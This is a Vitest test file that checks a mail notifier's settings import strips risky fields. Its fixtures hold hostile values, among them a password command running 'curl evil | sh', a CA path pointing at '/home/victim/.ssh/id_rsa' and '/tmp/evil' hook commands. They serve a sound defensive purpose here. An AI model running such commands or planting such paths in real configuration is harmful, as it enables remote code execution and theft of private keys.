import { describe, expect, it } from 'vitest';
import { exportSettings, importSettings } from '../../../src/options/settings-file';
import { DEFAULT_SETTINGS } from '../../../src/storage/settings';
import { account } from '../../helpers/ui-fixtures';

const settings = { ...DEFAULT_SETTINGS, accounts: [account()], notifications: false };

describe('settings files', () => {
  it('round-trip: what is exported imports as the same settings, each account under a new id', () => {
    const fresh = { ...settings, accounts: settings.accounts.map((a) => ({ ...a, id: 'new-1' })) };
    expect(importSettings(exportSettings(settings), () => 'new-1')).toEqual({ ok: true, settings: fresh, leftOut: [] });
  });

  it('never take over an account already here: every imported account gets a new id', () => {
    const result = importSettings(
      exportSettings({ ...settings, accounts: [account({ id: 'work' }), account({ id: 'home' })] }),
    );
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    const ids = result.settings.accounts.map((a) => a.id);
    expect(ids).not.toContain('work');
    expect(ids).not.toContain('home');
    expect(new Set(ids).size).toBe(2);
  });

  it('never bring a pinned certificate, a CA file or consent to clear text, and name the accounts', () => {
    const trusting = account({
      name: 'Trusting',
      server: {
        ...account().server,
        security: 'plain',
        allowPlaintext: true,
        caFile: '/home/victim/.ssh/id_rsa',
        pinnedCertSha256: `${'AB:'.repeat(31)}AB`,
      },
    });
    const result = importSettings(exportSettings({ ...settings, accounts: [trusting, account({ name: 'Plain' })] }));
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.leftOut).toEqual(['Trusting']);
    const [imported] = result.settings.accounts;
    expect(imported?.server).toMatchObject({ security: 'starttls', allowPlaintext: false });
    expect(imported?.server.caFile).toBeUndefined();
    expect(imported?.server.pinnedCertSha256).toBeUndefined();
  });

  it("never bring trusted authserv-ids: a forger's Authentication-Results id stays untrusted, and the account is named", () => {
    const forged = account({ name: 'Forged', trustedAuthservIds: ['mx.forger.example'] });
    const result = importSettings(exportSettings({ ...settings, accounts: [forged, account({ name: 'Plain' })] }));
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.leftOut).toEqual(['Forged']);
    const [imported] = result.settings.accounts;
    expect(imported?.trustedAuthservIds).toBeUndefined();
    expect(JSON.stringify(result.settings)).not.toContain('forger');
  });

  it('never import a command to run: password, mail client and on-new-mail commands are left out and named', () => {
    const risky = account({
      name: 'Risky',
      server: { ...account().server, passwordCommand: ['sh', '-c', 'curl evil | sh'] },
      desktopClient: { command: ['/tmp/evil'] },
      onNewMail: ['/tmp/evil-hook'],
    });
    const result = importSettings(
      exportSettings({ ...settings, accounts: [risky, account({ id: 'plain', name: 'Plain' })] }),
    );
    expect(result.ok).toBe(true);
    if (!result.ok) return;
    expect(result.leftOut).toEqual(['Risky']);
    const [imported] = result.settings.accounts;
    expect(imported?.server.passwordCommand).toBeUndefined();
    expect(imported?.desktopClient).toEqual({});
    expect(imported?.onNewMail).toBeUndefined();
    expect(JSON.stringify(result.settings)).not.toContain('evil');
  });

  it('say what they are, and hold no password field anywhere', () => {
    const text = exportSettings(settings);
    expect(JSON.parse(text)).toMatchObject({ kind: 'popbiff-settings', version: DEFAULT_SETTINGS.version });
    expect(text).not.toMatch(/password|secret/i);
  });

  it('from an older Popbiff (version 1) import through the migrations', () => {
    const old = JSON.stringify({ kind: 'popbiff-settings', version: 1, accounts: [account()], notifications: true });
    const result = importSettings(old, () => account().id);
    expect(result.ok && result.settings.accounts).toEqual([account()]);
    expect(result.ok && result.settings.version).toBe(DEFAULT_SETTINGS.version);
  });

  it.each([
    ['not JSON', '{', 'The file is not JSON.'],
    ['another JSON file', '{"version": 2, "accounts": []}', 'The file is not a Popbiff settings file.'],
    ['a newer version', '{"kind": "popbiff-settings", "version": 99, "accounts": []}', /newer than this Popbiff/],
    [
      'a broken account',
      '{"kind": "popbiff-settings", "version": 2, "accounts": [{"id": "x"}], "notifications": true, "muteWhenIdle": false, "rules": []}',
      /accounts/,
    ],
  ])('refuse %s, saying why', (_what, text, problem) => {
    const result = importSettings(text);
    expect(result.ok).toBe(false);
    if (!result.ok) expect(result.problem).toMatch(problem);
  });
});
